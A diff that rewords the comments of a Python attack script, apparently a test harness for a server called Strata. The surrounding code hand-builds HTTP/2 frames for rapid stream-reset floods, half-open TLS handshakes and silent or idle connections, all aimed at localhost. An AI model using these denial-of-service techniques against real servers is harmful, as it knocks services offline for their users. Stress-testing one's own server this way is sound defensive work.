@@ -1,9 +1,9 @@
-"""Somebody who has no credentials and means harm: raw sockets, and HTTP/2 frames made by hand.
+"""An attacker without credentials: raw sockets, and HTTP/2 frames made by hand.
 
     python attacker.py reset --host 127.0.0.1 --port 50051 --connections 12 --seconds 15 [--tls]
 
-Each of its connections that ends is opened again at once. At its end it prints what it did, as JSON.
-It shares no code with Strata, and starts with nothing but the standard library.
+The attacker reopens each connection at once when it ends. Before it exits it prints its counts as JSON.
+It shares no code with Strata and needs only the standard library.
 """
 
 from __future__ import annotations
@@ -25,11 +25,11 @@ ACK, END_STREAM, END_HEADERS = 1, 1, 4
 INITIAL_WINDOW_SIZE = 4
 CANCEL = 8
 RECORD = b"\x16\x03\x01\x02\x00"
-"""The header of a TLS record of 512 bytes, which never come."""
+"""The header of a TLS record of 512 bytes; the attacker never sends those bytes."""
 BATCH = 200
-"""Streams that are opened and reset between two looks at the clock."""
+"""Streams that `reset` opens and resets before it yields to the event loop."""
 TICKET_S = 0.02
-"""How long somebody waits who was refused a connection."""
+"""Wait after a refused connection."""
 RATE = 2_000
 """Connections a second. A server that closes the oldest of 384 silent ones leaves each 0.19 s to speak at this rate;
 at the rate of a quick machine, 7,400 a second, a client behind the attacker's address may be closed in its handshake."""
@@ -49,7 +49,7 @@ def literal(index: int, value: bytes) -> bytes:
 
 
 def named(name: bytes, value: bytes) -> bytes:
-    """Return a header with a name of its own, not indexed."""
+    """Return a header with a literal name, not indexed."""
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
@@ -68,7 +68,7 @@ def request(path: bytes, *more: bytes) -> bytes:
 
 
 def settings(**values: int) -> bytes:
-    """Return a SETTINGS frame: `initial_window_size=0` and the like."""
+    """Return a SETTINGS frame with these settings, such as `initial_window_size=0`."""
     numbers = {"initial_window_size": INITIAL_WINDOW_SIZE}
     return frame(
         SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items())
@@ -79,7 +79,7 @@ Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 
 
 async def polite(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Answer SETTINGS and PING, read and forget everything else, until the connection ends."""
+    """Answer SETTINGS and PING and discard every other frame, until the connection ends."""
     while True:
         head = await reader.readexactly(9)
         size, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
@@ -95,30 +95,30 @@ async def until_closed(reader: asyncio.StreamReader) -> None:
 
 
 async def silent(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
-    """Connect and say nothing."""
+    """Connect and send nothing."""
     await until_closed(reader)
 
 
 async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Begin a TLS handshake, and stay."""
+    """Begin a TLS handshake and never finish it."""
     writer.write(RECORD)
     await until_closed(reader)
 
 
 async def preface(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Say the preface, and nothing after it."""
+    """Send the HTTP/2 preface and nothing after it."""
     writer.write(PREFACE)
     await until_closed(reader)
 
 
 async def idle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Keep a whole and healthy HTTP/2 connection, and ask for nothing."""
+    """Keep a complete, healthy HTTP/2 connection without any request."""
     writer.write(PREFACE + settings())
     await polite(reader, writer)
 
 
 async def reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Open streams and reset them, as fast as the other side reads."""
+    """Open streams and reset them as fast as the server reads."""
     block = request(b"/strata.v1.Worlds/ListJobs")
     begin = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
     end = struct.pack(">I", 4)[1:] + bytes([RST_STREAM, 0])
@@ -147,14 +147,14 @@ turns = [0.0]
 
 
 def next_turn() -> float:
-    """Return how long to wait for a turn to connect, in seconds: turns are 1 / RATE apart."""
+    """Return the seconds to wait before the next connection; connections are 1 / RATE apart."""
     now = time.monotonic()
     turns[0] = max(turns[0], now) + 1 / RATE
     return turns[0] - now
 
 
 async def connection(args: argparse.Namespace, tls: ssl.SSLContext | None) -> None:
-    """Attack on one connection after the other, for as long as this runs."""
+    """Attack on one connection after the other, until cancelled."""
     while True:
         await asyncio.sleep(next_turn())
         try:
@@ -199,7 +199,7 @@ def main() -> None:
     args = parser.parse_args()
     _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    os.nice(5)  # an attacker has a machine of its own: what it computes is not taken from the replica
+    os.nice(5)  # a real attacker has its own machine and takes no CPU from the replica
     begun = time.monotonic()
     asyncio.run(attack(args))
     print(json.dumps({"event": "attacked", "s": time.monotonic() - begun, **done}), flush=True)  # noqa: T201
